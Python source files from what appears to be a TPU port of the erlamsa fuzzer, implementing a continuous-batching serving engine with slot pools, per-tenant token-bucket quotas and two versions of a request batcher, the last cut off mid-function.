"""Continuous-batching serving engine + multi-tenant admission helpers.

The flush batcher (services/batcher.py, kept as the ``--serving flush``
fallback) makes every request wait for a flush deadline or a full batch,
then ride one monolithic device step. This engine applies the
inference-serving playbook (PAPERS.md, arxiv 2605.25645) instead: the
device holds a SLOT ARRAY — a paged arena where each slot owns a fixed
page run (ops/slots.py) — and an arriving request scatters into a free
slot immediately. Every device step runs the mutation kernel over all
slots at one compiled shape, with the step's occupancy vector masking
the slots it does not own; finished rows gather out and their slots
recycle without waiting for the rest of any batch. Under load the step
cadence IS the batching: whatever arrived while the previous step was
in flight forms the next step's working set — no deadline to tune, no
fixed batch to fill.

Determinism: a request's bytes are a pure function of (seed, request_id)
— the per-request key/scores derivation in ops/slots.py shared with the
reworked flush batcher — so ``--serving continuous`` and ``--serving
flush`` answer a given request id identically at the same capacity
(pinned by tests and the tier1 --serve-smoke leg).

Multi-tenancy (used by services/faas.py): TenantTable hands out
per-tenant token buckets (quota shedding with Retry-After) and lazily
opened per-tenant corpus namespaces under the server's --corpus dir.
"""

from __future__ import annotations

import os
import queue
import re
import threading
import time
from collections import deque

from ..obs import trace
from ..utils.erlrand import gen_urandom_seed
from . import chaos, logger, metrics
from .batcher import STEP_RETRY, OracleBatcher, _Req
from .supervisor import supervise

#: engine-queue sentinel: the drain thread pokes the engine loop after
#: freeing slots so pending requests never starve waiting for a fresh
#: arrival to wake the loop
_POKE = object()


class _Pool:
    """One capacity class's slice of the slot array: a contiguous range
    of global slot ids [start, start+slots) backed by its OWN paged
    arena, table and compiled step at this class's width. Engine-thread
    owned (admission/dispatch); the drain only reads start/width."""

    __slots__ = ("capacity", "width", "row_pages", "start", "slots",
                 "table_np", "table", "arena", "step", "rids", "lens")

    def __init__(self, capacity: int, page: int, start: int, slots: int):
        import jax.numpy as jnp
        import numpy as np

        from ..ops import slots as slotops
        from ..ops.paged import new_arena

        self.capacity = capacity
        self.width = max(page, ((capacity + page - 1) // page) * page)
        self.row_pages = self.width // page
        self.start = start
        self.slots = slots
        self.table_np = slotops.slot_table(slots, self.row_pages)
        self.table = jnp.asarray(self.table_np)
        self.arena = new_arena(slotops.arena_pages(slots, self.row_pages),
                               page)
        # per-slot device-call inputs; a slot's entries are written only
        # between its admission and its dispatch (engine thread owns both)
        self.rids = np.zeros(slots, np.int32)
        self.lens = np.zeros(slots, np.int32)


class ContinuousEngine:
    """Slot-based continuous batcher with the same ``fuzz(data, opts,
    timeout)`` surface as TpuBatcher/OracleBatcher.

    Capacity classes: by default one class — the working width is
    ``capacity`` rounded up to the arena page size and every slot owns
    ``width // page`` pages. With ``classes=(256, 4096, ...)`` the slot
    array splits into per-class POOLS (ragged rows over one page size,
    like the corpus arena): a request boards a slot of the smallest
    class that holds it whole, rides that class's compiled step, and
    short requests stop paying the widest row's gather/compute.
    Routing is by LENGTH ONLY — never by load — so a request's bytes
    stay a pure function of (seed, request_id, class width) and equal
    the single-shot oracle at that capacity. Requests longer than the
    top width take the oracle escape (full fidelity beats truncation —
    the flush batcher's overflow rule). Compiled steps come from
    ops/slots.py STEP_CACHE, warmed in the constructor, so no request
    ever pays an XLA compile."""

    # lock discipline (analysis/rules_threads.py enforces this declaration)
    _GUARDED_BY = {
        "_lock": ("_free", "_pending", "_next_rid", "_busy"),
        "_overflow_lock": ("_overflow",),
    }

    def __init__(self, capacity: int = 16384, slots: int = 64, seed=None,
                 max_running_time: float = 30.0, inflight: int = 1,
                 page: int | None = None, warm: bool = True,
                 classes=None):
        # inflight > 1 overlaps the next step's boarding with the
        # current step's compute, but co-resident steps SHARE the slot
        # pool — each can fill at most (slots - the other's occupancy),
        # and a masked slot still costs full kernel compute at the
        # fixed compiled shape. Depth 1 keeps every step eligible for
        # 100% fill, which wins whenever kernel time dominates; raise
        # it only when the device is fast enough that host-side
        # boarding, not compute, sets the step cadence.
        from ..ops import prng
        from ..ops import slots as slotops
        from ..ops.paged import PAGE

        self.page = page or PAGE
        caps = (sorted({int(c) for c in classes}) if classes
                else [int(capacity)])
        if caps[0] <= 0:
            raise ValueError(f"capacity classes must be positive, "
                             f"got {caps}")
        if slots < len(caps):
            raise ValueError(f"{slots} slot(s) cannot cover {len(caps)} "
                             f"capacity classes")
        self.capacity = caps[-1]
        self.slots = slots
        self._base = prng.base_key(seed or gen_urandom_seed())
        self._upload = slotops.upload_slots
        # slots split evenly across pools, remainder to the SMALLEST
        # class (short requests dominate real traffic); global slot id
        # -> owning pool via _pool_of so the free list stays one flat
        # list of global ids
        per = slots // len(caps)
        self._pools: list[_Pool] = []
        self._pool_of: list[int] = []
        start = 0
        for i, cap in enumerate(caps):
            cnt = per + (slots - per * len(caps) if i == 0 else 0)
            self._pools.append(_Pool(cap, self.page, start, cnt))
            self._pool_of.extend([i] * cnt)
            start += cnt
        self.width = self._pools[-1].width
        self.row_pages = self._pools[-1].row_pages
        if warm:
            self.warmup()
        self._max_running_time = max_running_time
        self._overflow = None  # built lazily on the first oversized request
        self._overflow_lock = threading.Lock()

        self._lock = threading.Lock()
        self._free = list(range(slots))
        self._pending: deque[_Req] = deque()
        self._next_rid = 0
        self._busy = 0  # steps on the device, not yet drained
        self._q: queue.Queue = queue.Queue()
        self._inflight: queue.Queue = queue.Queue()
        self._slots_sem = threading.Semaphore(max(1, inflight))
        self.steps = 0
        self.served = 0
        self.admitted = 0
        self._fill = metrics.Ewma(0.2)  # per-step slot fill (EWMA, windowed)
        self._step_s = metrics.Ewma(0.3)  # step wall seconds (EWMA)
        supervise("serving-engine", self._engine_loop)
        supervise("serving-drain", self._drain)

    # -- compiled-step cache ------------------------------------------------

    def warmup(self):
        """Build + warm every pool's compiled slot step (and the pow2
        upload-chunk shapes) through the process-wide STEP_CACHE — at
        server start, never on the request path."""
        from ..ops import slots as slotops

        for pool in self._pools:
            pool.step = slotops.STEP_CACHE.slot_step(
                pool.slots, pool.row_pages, page=self.page
            )
        # single-class alias kept for introspection/back-compat
        self._step = self._pools[-1].step

    @staticmethod
    def compile_stats() -> dict:
        """Compiled-step cache counters (shared across engines): tests
        assert `compiles` stays flat across the request path."""
        from ..ops import slots as slotops

        return slotops.STEP_CACHE.stats()

    # -- client surface -----------------------------------------------------

    @property
    def fill_efficiency(self) -> float:
        """Windowed EWMA of per-step slot fill (occupied/slots)."""
        return self._fill.value

    def backlog(self) -> int:
        """Requests admitted but not yet dispatched — what faas admission
        control bounds (queue depth, not device occupancy)."""
        with self._lock:
            waiting = len(self._pending)
        return self._q.qsize() + waiting

    def stats(self) -> dict:
        comp = self.compile_stats()
        out = {
            "mode": "continuous",
            "capacity": self.capacity,
            "width": self.width,
            "slots": self.slots,
            "steps": self.steps,
            "served": self.served,
            "admitted": self.admitted,
            "backlog": self.backlog(),
            "fill_efficiency": round(self.fill_efficiency, 4),
            "steps_per_request": round(self.steps / self.served, 4)
            if self.served else 0.0,
            "compiled_steps": comp["entries"],
            "compiles": comp["compiles"],
        }
        if len(self._pools) > 1:
            out["classes"] = {
                str(p.capacity): {"slots": p.slots, "width": p.width}
                for p in self._pools
            }
        return out

    def fuzz(self, data: bytes, opts: dict, timeout: float = 90.0) -> bytes:
        if len(data) > self.width:
            # overflow-to-host escape: full fidelity beats truncation
            with self._overflow_lock:
                if self._overflow is None:
                    self._overflow = OracleBatcher(
                        workers=2, max_running_time=self._max_running_time
                    )
                overflow = self._overflow
            return overflow.fuzz(data, opts, timeout)
        req = _Req(data, opts)
        with self._lock:
            req.rid = self._next_rid
            self._next_rid += 1
            self.admitted += 1
        with trace.span("serving.request", rid=req.rid, bytes=len(data)):
            self._q.put(req)
            if not req.done.wait(timeout):
                # the slot itself is NOT leaked: the drain frees it when
                # the step completes whether or not anyone still waits
                return b""
            return req.result

    # -- engine internals ---------------------------------------------------

    def _engine_loop(self):
        while True:
            item = self._q.get()
            fresh = [] if item is _POKE else [item]
            while True:
                try:
                    nxt = self._q.get_nowait()
                except queue.Empty:
                    break
                if nxt is not _POKE:
                    fresh.append(nxt)
            with self._lock:
                self._pending.extend(fresh)
            self._pump()

    def _sweep(self):
        """Fold queued arrivals into _pending without blocking — called
        at the last moment before slot selection so a step admits
        everything that arrived while the previous step was in flight."""
        fresh = []
        while True:
            try:
                nxt = self._q.get_nowait()
            except queue.Empty:
                break
            if nxt is not _POKE:
                fresh.append(nxt)
        if fresh:
            with self._lock:
                self._pending.extend(fresh)

    def _board(self):
        """Boarding: while an earlier step still runs on the device,
        keep folding arrivals into the next step instead of dispatching
        it part-empty. The device going idle — or the step filling — is
        the departure signal, so the pipeline self-clocks: step N+1
        leaves the moment step N's results land, carrying everything
        that arrived during N's compute. A near-empty extra step costs
        a full kernel at this fixed compiled shape; boarding costs only
        the wait that the in-flight semaphore would impose anyway.
        Bounded by 2x the EWMA step time so a wedged drain cannot park
        admitted requests forever (STEP_RETRY will surface the fault)."""
        deadline = time.monotonic() + max(0.05, 2.0 * self._step_s.value)
        while True:
            with self._lock:
                need = len(self._free) - len(self._pending)
                busy = self._busy
            remaining = deadline - time.monotonic()
            if need <= 0 or not busy or remaining <= 0:
                return
            try:
                nxt = self._q.get(timeout=min(0.002, remaining))
            except queue.Empty:
                continue
            if nxt is not _POKE:
                with self._lock:
                    self._pending.append(nxt)

    def _pump(self):
        while True:
            with self._lock:
                idle = not self._pending or not self._free
            if idle:
                return
            # bounded in-flight pipeline: one permit per device step,
            # released only after the drain has FORCED its results.
            # Acquire BEFORE selecting the step's slots: everything that
            # arrives while we wait on the in-flight step joins this
            # step instead of forcing an extra near-empty one — the
            # step cadence is the coalescing window, nothing to tune.
            self._slots_sem.acquire()
            self._sweep()
            self._board()
            with self._lock:
                # route each pending request to its LENGTH-selected pool
                # and admit FIFO among the servable: a request whose
                # pool is full waits (never rides a wider class — bytes
                # must stay a pure function of (seed, rid, class width),
                # not of load)
                by_pool: list[list[int]] = [[] for _ in self._pools]
                for s in self._free:
                    by_pool[self._pool_of[s]].append(s)
                admitted = []
                keep: deque[_Req] = deque()
                while self._pending:
                    r = self._pending.popleft()
                    pi = self._route(len(r.data))
                    if by_pool[pi]:
                        admitted.append((by_pool[pi].pop(), r))
                    else:
                        keep.append(r)
                self._pending = keep
                self._free = [s for lst in by_pool for s in lst]
            if not admitted:
                self._slots_sem.release()
                return
            try:
                self._dispatch(admitted)
            except BaseException:  # lint: broad-except-ok must answer stranded requests first
                for _slot, r in admitted:
                    r.done.set()
                with self._lock:
                    self._free.extend(s for s, _ in admitted)
                self._slots_sem.release()
                raise

    def _route(self, n: int) -> int:
        """Pool index for a request of n bytes: the smallest class that
        holds it whole. fuzz() already diverted anything over the top
        width to the oracle escape."""
        for i, pool in enumerate(self._pools):
            if n <= pool.width:
                return i
        return len(self._pools) - 1

    def _dispatch(self, admitted):
        import numpy as np

        groups: dict[int, list] = {}
        for slot, r in admitted:
            groups.setdefault(self._pool_of[slot], []).append((slot, r))
        t0 = time.monotonic()
        parts = {}
        for pi in sorted(groups):
            pool = self._pools[pi]
            part = groups[pi]
            occ = np.zeros(pool.slots, np.int32)
            for slot, r in part:
                local = slot - pool.start
                pool.rids[local] = r.rid
                pool.lens[local] = len(r.data)
                occ[local] = 1
            with trace.span("serving.upload", reqs=len(part)):
                pool.arena = self._upload(
                    pool.arena, pool.table_np,
                    [(s - pool.start, r.data) for s, r in part],
                    page=self.page,
                )

            def _step_once(pool=pool, occ=occ):
                # retry is only sound while inputs survive a failed
                # attempt: the arena is never donated and a raised
                # dispatch consumed nothing
                chaos.fault_point("serving.step")
                return pool.step(pool.arena, pool.table, self._base,
                                 pool.rids, pool.lens, occ)

            with trace.span("serving.step", reqs=len(part),
                            width=pool.width):
                out, olens = STEP_RETRY.call(_step_once,
                                             site="serving.step")
            self.steps += 1
            self._fill.update(len(part) / pool.slots)
            parts[pi] = (out, olens)
        with self._lock:
            self._busy += 1
        metrics.GLOBAL.record_drain_backlog(self._inflight.qsize() + 1)
        self._inflight.put((admitted, parts, t0))

    def _drain(self):
        import numpy as np

        while True:
            admitted, parts, t0 = self._inflight.get()
            try:
                with trace.span("serving.drain", reqs=len(admitted)):
                    hosted = {pi: (np.asarray(out), np.asarray(olens))
                              for pi, (out, olens) in parts.items()}
            except BaseException:  # lint: broad-except-ok unblock waiters before the restart
                with self._lock:
                    self._busy -= 1
                for _slot, r in admitted:
                    r.done.set()
                self._recycle(admitted)
                raise
            with self._lock:
                self._busy -= 1  # results landed: boarding may depart
            dt = time.monotonic() - t0
            self._step_s.update(dt)
            metrics.GLOBAL.record_stage("serving_drain", dt)
            metrics.GLOBAL.observe("batch_latency", dt)
            now = time.monotonic()
            for slot, r in admitted:
                pi = self._pool_of[slot]
                data, lens = hosted[pi]
                local = slot - self._pools[pi].start
                r.result = bytes(data[local, :int(lens[local])])
                r.done.set()
                metrics.GLOBAL.record_request(now - r.t_enq)
            self.served += len(admitted)  # drain thread only
            self._recycle(admitted)
            metrics.GLOBAL.record_serving(self.stats())

    def _recycle(self, admitted):
        with self._lock:
            self._free.extend(s for s, _ in admitted)
            has_pending = bool(self._pending)
        self._slots_sem.release()
        if has_pending:
            # wake the engine loop: without a fresh arrival it would
            # block on the queue while admitted-capable work waits
            self._q.put(_POKE)


def make_engine(backend: str, serving: str = "continuous", **kw):
    """Engine factory for the service layer: ``(backend, serving)`` ->
    OracleBatcher | TpuBatcher (flush) | ContinuousEngine."""
    from .batcher import make_batcher

    if backend == "tpu" and serving == "continuous":
        return ContinuousEngine(**{k: v for k, v in kw.items()
                                   if k in ("capacity", "slots", "seed",
                                            "max_running_time", "inflight",
                                            "warm", "classes")})
    if serving not in ("continuous", "flush"):
        raise ValueError(f"unknown serving mode {serving!r}")
    return make_batcher(backend, **kw)


# -- multi-tenant admission ------------------------------------------------


class TokenBucket:
    """Classic token bucket: ``rate`` tokens/s up to ``burst``. take()
    returns 0.0 on admit, else the seconds until a token accrues (the
    Retry-After hint). Monotonic clock only — admission timing is
    load-dependent by nature, never replayed."""

    __slots__ = ("rate", "burst", "tokens", "t")

    def __init__(self, rate: float, burst: float):
        self.rate = float(rate)
        self.burst = float(burst)
        self.tokens = float(burst)
        self.t = time.monotonic()

    def take(self) -> float:
        now = time.monotonic()
        self.tokens = min(self.burst,
                          self.tokens + (now - self.t) * self.rate)
        self.t = now
        if self.tokens >= 1.0:
            self.tokens -= 1.0
            return 0.0
        if self.rate <= 0.0:
            return 1.0
        return (1.0 - self.tokens) / self.rate


def tenant_slug(tenant: str) -> str:
    """Filesystem-safe tenant namespace (corpus subdirectory name)."""
    return re.sub(r"[^A-Za-z0-9_.-]", "_", tenant)[:48] or "_"


class TenantTable:
    """Per-tenant serving state: a token bucket (quota) and a lazily
    opened corpus namespace under ``corpus_dir/<tenant>``. rate <= 0
    disables quotas entirely (no buckets are built)."""

    _GUARDED_BY = {"_lock": ("_buckets", "_stores", "_served", "_rejected")}

    def __init__(self, rate: float = 0.0, burst: float | None = None,
                 corpus_dir: str | None = None):
        self.rate = float(rate or 0.0)
        self.burst = float(burst) if burst else max(1.0, 2 * self.rate)
        self.corpus_dir = corpus_dir
        self._lock = threading.Lock()
        self._buckets: dict[str, TokenBucket] = {}
        self._stores: dict[str, object] = {}
        self._served: dict[str, int] = {}
        self._rejected: dict[str, int] = {}

    def admit(self, tenant: str) -> float:
        """0.0 = admitted; > 0 = shed, with the Retry-After seconds."""
        if self.rate <= 0.0:
            return 0.0
        with self._lock:
            bucket = self._buckets.get(tenant)
            if bucket is None:
                bucket = self._buckets[tenant] = TokenBucket(self.rate,
                                                             self.burst)
            return bucket.take()

    def record(self, tenant: str, served: bool):
        with self._lock:
            table = self._served if served else self._rejected
            table[tenant] = table.get(tenant, 0) + 1
        metrics.GLOBAL.record_tenant(tenant, served=int(served),
                                     rejected=int(not served))

    def corpus_for(self, tenant: str):
        """The tenant's CorpusStore namespace, or None when the server
        has no corpus dir. Open failures log and disable the namespace
        for this tenant (admission must not 500 on a full disk)."""
        if not self.corpus_dir:
            return None
        with self._lock:
            store = self._stores.get(tenant)
            if store is None and tenant not in self._stores:
                from ..corpus.store import CorpusStore

                try:
                    store = CorpusStore(
                        os.path.join(self.corpus_dir, tenant_slug(tenant))
                    )
                except (OSError, ValueError) as e:
                    logger.log("warn",
                               "tenant corpus %s disabled: %s", tenant, e)
                    store = None
                self._stores[tenant] = store
            return store

    def stats(self) -> dict:
        with self._lock:
            return {
                "rate": self.rate,
                "burst": self.burst,
                "tenants": sorted(set(self._served) | set(self._rejected)),
                "served": dict(self._served),
                "rejected": dict(self._rejected),
            }
