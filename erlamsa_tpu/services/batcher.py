"""Adaptive request batcher: funnel concurrent FaaS/proxy requests into
device batches.

The reference spawns one Erlang process per fuzz request
(src/erlamsa_fsupervisor.erl:47-51); the TPU design instead queues
requests and flushes them to one fuzz_batch call when the batch fills or a
latency deadline passes — SURVEY.md §3.3's "batching opportunity". Oracle
fallback handles requests whose options the device path can't serve
(host-only mutators, patterns ar/cp/sz/cs).
"""

from __future__ import annotations

import queue
import threading
import time
from dataclasses import dataclass, field

from ..utils.erlrand import gen_urandom_seed
from .supervisor import supervise


@dataclass
class _Req:
    data: bytes
    opts: dict
    done: threading.Event = field(default_factory=threading.Event)
    result: bytes = b""


class OracleBatcher:
    """Per-request oracle execution (the fallback backend): still bounded by
    a worker pool rather than a process per request. Each case runs under
    the per-case watchdog (default 30s, the reference's service-mode
    MaxRunningTime, src/erlamsa_cmdparse.erl:109-111) so one hung case is
    abandoned instead of permanently draining a pool worker — the
    fsupervisor reaper's job (src/erlamsa_fsupervisor.erl:96-105)."""

    def __init__(self, workers: int = 10, max_running_time: float = 30.0):
        self._q: queue.Queue[_Req] = queue.Queue()
        self.max_running_time = max_running_time
        for w in range(workers):
            supervise(f"oracle-batcher-{w}", self._worker)

    def _worker(self):
        from ..oracle.engine import fuzz
        from ..utils.watchdog import run_with_timeout

        while True:
            req = self._q.get()
            # CLI-built opts carry maxrunningtime: None for "unset" — that
            # must fall back to the service budget, not mean "no budget"
            budget = req.opts.get("maxrunningtime")
            if budget is None:
                budget = self.max_running_time
            try:
                req.result = run_with_timeout(
                    fuzz,
                    budget,
                    req.data,
                    seed=req.opts.get("seed") or gen_urandom_seed(),
                    **{k: v for k, v in req.opts.items()
                       if k not in ("seed", "maxrunningtime")},
                )
            except Exception:
                req.result = b""  # incl. CaseTimeout: empty answer,
                # like the reference's 90s give-up (fsupervisor.erl:83-86)
            req.done.set()

    def fuzz(self, data: bytes, opts: dict, timeout: float = 90.0) -> bytes:
        req = _Req(data, opts)
        self._q.put(req)
        if not req.done.wait(timeout):
            return b""  # erlamsa_fsupervisor.erl:83-86 empty answer
        return req.result


class TpuBatcher:
    """Accumulate requests; flush as one padded device batch when the batch
    fills or max_latency_ms passes. Requests larger than the device
    capacity take the oracle escape (same overflow rule as the batch
    runner's capacity classes) instead of being truncated."""

    def __init__(self, batch: int = 256, capacity: int = 16384,
                 max_latency_ms: float = 20.0, seed=None,
                 max_running_time: float = 30.0):
        import jax

        from ..ops import prng
        from ..ops.pipeline import make_fuzzer
        from ..ops.scheduler import init_scores

        self.batch = batch
        self.capacity = capacity
        self.max_latency = max_latency_ms / 1000.0
        self._q: queue.Queue[_Req] = queue.Queue()
        self._step, _ = make_fuzzer(capacity, batch)
        self._base = prng.base_key(seed or gen_urandom_seed())
        self._scores = init_scores(jax.random.fold_in(self._base, 999), batch)
        self._case = 0
        self._max_running_time = max_running_time
        self._overflow = None  # built lazily on the first oversized request
        self._overflow_lock = threading.Lock()
        # load metrics (BASELINE config 4): fill efficiency = served /
        # (flushes * batch) — how full the device batches actually ran
        self.flushes = 0
        self.served = 0
        supervise("tpu-batcher-flusher", self._flusher)

    @property
    def fill_efficiency(self) -> float:
        return self.served / (self.flushes * self.batch) if self.flushes else 0.0

    def _flusher(self):
        import numpy as np

        from ..ops.buffers import Batch, pack, unpack

        while True:
            reqs: list[_Req] = [self._q.get()]
            deadline = time.monotonic() + self.max_latency
            while len(reqs) < self.batch:
                remaining = deadline - time.monotonic()
                if remaining <= 0:
                    break
                try:
                    reqs.append(self._q.get(timeout=remaining))
                except queue.Empty:
                    break
            try:
                seeds = [r.data for r in reqs]
                pad = [b"\x00"] * (self.batch - len(seeds))
                packed = pack(seeds + pad, capacity=self.capacity)
                data, lens, self._scores, _meta = self._step(
                    self._base, self._case, packed.data, packed.lens,
                    self._scores,
                )
                self._case += 1
                self.flushes += 1
                self.served += len(reqs)
                results = unpack(Batch(data, lens))
                for r, res in zip(reqs, results):
                    r.result = res
                    r.done.set()
            except BaseException:
                # a device error mid-batch must not strand the collected
                # requests until their client timeout: answer empty (the
                # fsupervisor give-up convention) before the supervisor
                # restarts this loop
                for r in reqs:
                    r.done.set()
                raise

    def fuzz(self, data: bytes, opts: dict, timeout: float = 90.0) -> bytes:
        if len(data) > self.capacity:
            # overflow-to-host escape: full fidelity beats truncation
            with self._overflow_lock:
                if self._overflow is None:
                    self._overflow = OracleBatcher(
                        workers=2, max_running_time=self._max_running_time
                    )
            return self._overflow.fuzz(data, opts, timeout)
        req = _Req(data, opts)
        self._q.put(req)
        if not req.done.wait(timeout):
            return b""
        return req.result


def service_budget(opts: dict) -> float:
    """Per-case budget for service modes: -T when given, else the
    reference's 30s service default (src/erlamsa_cmdparse.erl:109-111)."""
    mrt = opts.get("maxrunningtime")
    return 30.0 if mrt is None else float(mrt)


def make_batcher(backend: str, **kw):
    if backend == "tpu":
        return TpuBatcher(**{k: v for k, v in kw.items()
                             if k in ("batch", "capacity", "max_latency_ms",
                                      "seed", "max_running_time")})
    return OracleBatcher(workers=kw.get("workers", 10),
                         max_running_time=kw.get("max_running_time", 30.0))
