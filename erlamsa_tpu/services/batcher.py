"""Adaptive request batcher: funnel concurrent FaaS/proxy requests into
device batches.

The reference spawns one Erlang process per fuzz request
(src/erlamsa_fsupervisor.erl:47-51); the TPU design instead queues
requests and flushes them to one fuzz_batch call when the batch fills or a
latency deadline passes — SURVEY.md §3.3's "batching opportunity". Oracle
fallback handles requests whose options the device path can't serve
(host-only mutators, patterns ar/cp/sz/cs).
"""

from __future__ import annotations

import queue
import threading
import time
from dataclasses import dataclass, field

from ..obs import trace
from ..utils.erlrand import gen_urandom_seed
from . import chaos, metrics
from .resilience import RetryPolicy
from .supervisor import supervise

# one transient device hiccup (a preempted step, an injected
# batcher.step fault) must not cost the collected requests their
# answers; a second failure falls through to the supervisor restart
STEP_RETRY = RetryPolicy(attempts=2, base=0.02, max_delay=0.2,
                         retry_on=(Exception,))


@dataclass
class _Req:
    data: bytes
    opts: dict
    done: threading.Event = field(default_factory=threading.Event)
    result: bytes = b""
    # enqueue timestamp: the flush deadline anchors on when the QUEUE
    # became non-empty, not on when a flusher loop happened to pick the
    # request up — a request that aged while a batch was in flight
    # flushes immediately instead of waiting another full tick
    t_enq: float = field(default_factory=time.monotonic)
    # request id: the per-request PRNG stream index (ops/slots.py) —
    # assigned at admission so a request's bytes are a pure function of
    # (seed, rid) no matter which flush or slot step carries it
    rid: int = 0


def collect_batch(q: "queue.Queue[_Req]", first: _Req, batch: int,
                  deadline: float) -> list[_Req]:
    """Gather up to `batch` requests ending at `deadline` (monotonic).

    Everything already queued is swept without waiting — so when the
    deadline has ALREADY passed (requests aged while the previous batch
    held the device), the whole backlog flushes immediately as a partial
    batch instead of trickling out one request per tick."""
    reqs = [first]
    while len(reqs) < batch:
        try:
            reqs.append(q.get_nowait())
            continue
        except queue.Empty:
            pass
        remaining = deadline - time.monotonic()
        if remaining <= 0:
            break
        try:
            reqs.append(q.get(timeout=remaining))
        except queue.Empty:
            break
    return reqs


class OracleBatcher:
    """Per-request oracle execution (the fallback backend): still bounded by
    a worker pool rather than a process per request. Each case runs under
    the per-case watchdog (default 30s, the reference's service-mode
    MaxRunningTime, src/erlamsa_cmdparse.erl:109-111) so one hung case is
    abandoned instead of permanently draining a pool worker — the
    fsupervisor reaper's job (src/erlamsa_fsupervisor.erl:96-105)."""

    def __init__(self, workers: int = 10, max_running_time: float = 30.0):
        self._q: queue.Queue[_Req] = queue.Queue()
        self.max_running_time = max_running_time
        for w in range(workers):
            supervise(f"oracle-batcher-{w}", self._worker)

    def _worker(self):
        from ..oracle.engine import fuzz
        from ..utils.watchdog import run_with_timeout

        while True:
            req = self._q.get()
            # CLI-built opts carry maxrunningtime: None for "unset" — that
            # must fall back to the service budget, not mean "no budget"
            budget = req.opts.get("maxrunningtime")
            if budget is None:
                budget = self.max_running_time
            try:
                with trace.span("oracle.case", bytes=len(req.data)):
                    req.result = run_with_timeout(
                        fuzz,
                        budget,
                        req.data,
                        seed=req.opts.get("seed") or gen_urandom_seed(),
                        **{k: v for k, v in req.opts.items()
                           if k not in ("seed", "maxrunningtime")},
                    )
            except Exception:  # lint: broad-except-ok empty answer is the give-up convention
                req.result = b""  # incl. CaseTimeout: empty answer,
                # like the reference's 90s give-up (fsupervisor.erl:83-86)
            req.done.set()
            metrics.GLOBAL.record_request(time.monotonic() - req.t_enq)

    def backlog(self) -> int:
        """Requests queued behind the worker pool (admission-control
        input — same surface as the device engines)."""
        return self._q.qsize()

    def fuzz(self, data: bytes, opts: dict, timeout: float = 90.0) -> bytes:
        req = _Req(data, opts)
        self._q.put(req)
        if not req.done.wait(timeout):
            return b""  # erlamsa_fsupervisor.erl:83-86 empty answer
        return req.result


class TpuBatcher:
    """Accumulate requests; flush as one padded device batch when the batch
    fills or the flush deadline passes. Requests larger than the device
    capacity take the oracle escape (same overflow rule as the batch
    runner's capacity classes) instead of being truncated.

    Double-buffered (r6): the flusher DISPATCHES a batch (JAX async
    dispatch — non-blocking) and immediately returns to collecting the
    next one, so request queuing and host packing overlap device compute;
    a drain thread forces completed batches and answers their clients. Up
    to `inflight` batches ride the device queue at once (2 = classic
    double buffering; 1 degenerates to the old serialized flusher).

    The flush deadline is ADAPTIVE: while a batch is in flight the device
    can't serve a new one anyway, so waiting about one device-step time
    (EWMA-tracked) to fill the next batch costs no extra latency and
    raises fill efficiency; the configured max_latency_ms stays the hard
    cap so an idle service still answers a lone request promptly.

    Determinism (r10): keys and scheduler rows derive per REQUEST from
    (seed, rid) inside the compiled step (ops/slots.py), not per flush —
    a request's bytes no longer depend on which flush carried it or who
    shared the batch, and they match the continuous engine
    (services/serving.py) at the same capacity byte for byte."""

    # lock discipline (analysis/rules_threads.py enforces this declaration)
    _GUARDED_BY = {"_overflow_lock": ("_overflow",)}

    def __init__(self, batch: int = 256, capacity: int = 16384,
                 max_latency_ms: float = 20.0, seed=None,
                 max_running_time: float = 30.0, inflight: int = 2,
                 warm: bool = False):
        from ..ops import prng

        self.batch = batch
        self.capacity = capacity
        self.max_latency = max_latency_ms / 1000.0
        self._q: queue.Queue[_Req] = queue.Queue()
        # per-request keys/scores derive inside the step (ops/slots.py):
        # nothing chains between flushes, so fresh packs stay
        # donation-safe and a device error costs no scheduler state.
        # warm=False keeps construction cheap (first flush pays the
        # compile); servers pass warm=True so no request ever does
        self._step = None
        if warm:
            self._ensure_step()
        self._base = prng.base_key(seed or gen_urandom_seed())
        self._rid = 0  # next request id (admission order)
        self._rid_lock = threading.Lock()
        self._max_running_time = max_running_time
        self._overflow = None  # built lazily on the first oversized request
        self._overflow_lock = threading.Lock()
        # load metrics (BASELINE config 4): cumulative flush/served counts
        # plus a windowed EWMA of per-flush fill (served/batch) — the
        # fill_efficiency surfaced in /metrics, meaningful under bursty
        # load where a cumulative ratio would flatten every burst
        self.flushes = 0
        self.served = 0
        self._fill = metrics.Ewma(0.2)
        # bounded in-flight pipeline: the semaphore holds one permit per
        # device slot, acquired before a batch is dispatched and released
        # only after the drain has FORCED its results — so at most
        # `inflight` batches ever sit in the device queue (releasing on
        # hand-off instead would let the flusher stack batches behind a
        # slow force and multiply tail latency)
        self._inflight: queue.Queue = queue.Queue()
        self._slots = threading.Semaphore(max(1, inflight))
        self._step_ewma = 0.0  # EWMA of device step seconds (drain-side)
        supervise("tpu-batcher-flusher", self._flusher)
        supervise("tpu-batcher-drain", self._drain)

    def _ensure_step(self):
        if self._step is None:
            from ..ops.slots import STEP_CACHE

            self._step = STEP_CACHE.request_step(self.capacity, self.batch,
                                                 donate="auto")
        return self._step

    @property
    def fill_efficiency(self) -> float:
        """Windowed EWMA of per-flush fill (reqs/batch); 0.0 while cold."""
        return self._fill.value

    def backlog(self) -> int:
        """Requests queued behind the flusher (admission-control input)."""
        return self._q.qsize()

    def stats(self) -> dict:
        from ..ops.slots import STEP_CACHE

        comp = STEP_CACHE.stats()
        return {
            "mode": "flush",
            "capacity": self.capacity,
            "width": self.capacity,
            "slots": self.batch,
            "steps": self.flushes,
            "served": self.served,
            "admitted": self._rid,
            "backlog": self.backlog(),
            "fill_efficiency": round(self.fill_efficiency, 4),
            "steps_per_request": round(self.flushes / self.served, 4)
            if self.served else 0.0,
            "compiled_steps": comp["entries"],
            "compiles": comp["compiles"],
        }

    def _deadline_s(self) -> float:
        """Adaptive collect budget: ~half a device step (clipped to the
        configured cap) once the step time is known; the full cap while
        cold (no measurement yet)."""
        if self._step_ewma <= 0.0:
            return self.max_latency
        return min(self.max_latency, max(self._step_ewma * 0.5, 1e-3))

    def _flusher(self):
        import numpy as np

        from ..ops.buffers import pack

        while True:
            first = self._q.get()
            # wait for a device slot BEFORE collecting: while the
            # pipeline is saturated, flushing sooner couldn't be served
            # sooner, and arrivals that queue up during the wait get
            # swept into one fuller batch the moment a slot frees
            self._slots.acquire()
            with trace.span("batcher.collect"):
                reqs = collect_batch(
                    self._q, first, self.batch,
                    first.t_enq + self._deadline_s()
                )
            try:
                step = self._ensure_step()
                seeds = [r.data for r in reqs]
                pad = [b"\x00"] * (self.batch - len(seeds))
                # pad rows carry rid 0; their outputs are never read
                rids = np.zeros(self.batch, np.int32)
